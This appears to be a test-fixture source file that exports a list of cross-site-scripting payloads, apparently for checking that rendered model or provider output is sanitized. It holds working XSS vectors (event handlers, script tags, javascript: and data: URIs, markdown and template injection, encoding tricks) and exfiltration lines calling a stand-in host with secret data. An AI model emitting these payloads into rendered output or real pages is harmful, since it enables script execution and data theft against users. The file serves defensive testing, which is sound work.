/** What a model, a caller or a provider could write to have a browser do something. `__xss` is what the tests listen for. */

const RUN = "__xss()";
const AWAY = "http://xss.invalid";

const elements = ["img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror", "details open ontoggle", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "marquee onstart", "object data=x onerror", "embed src=x onload", "iframe onload", "form onsubmit", "button autofocus onfocus", "div onpointerover", "animate onbegin", "style onload", "link rel=stylesheet href=x onerror", "meta http-equiv=x onload"];

export const PAYLOADS = [
  ...elements.map((element) => `<${element}=${RUN}>`),
  ...elements.slice(0, 10).map((element) => `"><${element}="${RUN}">`),
  ...elements.slice(0, 6).map((element) => `&lt;${element}=${RUN}&gt;`),
  `<script>${RUN}</script>`, `</script><script>${RUN}</script>`, `<script src=${AWAY}/a.js></script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script\u0000>${RUN}</script>`, `<svg><script>${RUN}</script></svg>`, `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `data:image/svg+xml,<svg onload=${RUN}>`, `vbscript:${RUN}`,
  `[click](javascript:${RUN})`, `[click](data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+)`, `![a](${AWAY}/leak?q=secret)`, `![a][b]\n\n[b]: ${AWAY}/leak`, `<${AWAY}/auto>`, `${AWAY}/plain?x=1`, `[a]: javascript:${RUN}\n[a]`, `<img src="${AWAY}/p.png">`, `<a href="${AWAY}">x</a>`, `<base href="${AWAY}">`, `<link rel="prefetch" href="${AWAY}">`, `<meta http-equiv="refresh" content="0;url=${AWAY}">`, `<iframe src="${AWAY}"></iframe>`, `<iframe srcdoc="<script>${RUN}</script>"></iframe>`, `<object data="${AWAY}"></object>`, `<style>@import "${AWAY}";</style>`, `<div style="background:url(${AWAY}/b)">`, `<form action="${AWAY}"><input type=submit></form>`,
  `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `#{${RUN}}`, `<%= ${RUN} %>`, `{{7*7}}`, `'-${RUN}-'`, `";${RUN};//`, `\\";${RUN};//`, `*/${RUN}/*`, `onerror=${RUN} x="`, `' autofocus onfocus='${RUN}`,
  `__proto__`, `constructor`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><img src=x onerror=${RUN}></template>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `%3Cscript%3E${RUN}%3C/script%3E`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `\u202e<script>${RUN}</script>`, `<im\u200bg src=x onerror=${RUN}>`, `\ufeff<svg onload=${RUN}>`, `</title><svg onload=${RUN}>`, `</textarea><svg onload=${RUN}>`, `-->\n<svg onload=${RUN}>`, `]]><svg onload=${RUN}>`, `\`\`\`html\n<svg onload=${RUN}>\n\`\`\``, `| a |\n|---|\n| <img src=x onerror=${RUN}> |`, `- [ ] <svg onload=${RUN}>`, `# <svg onload=${RUN}>`, `=HYPERLINK("${AWAY}")`, `\u001b]8;;${AWAY}\u0007x\u001b]8;;\u0007`,
];
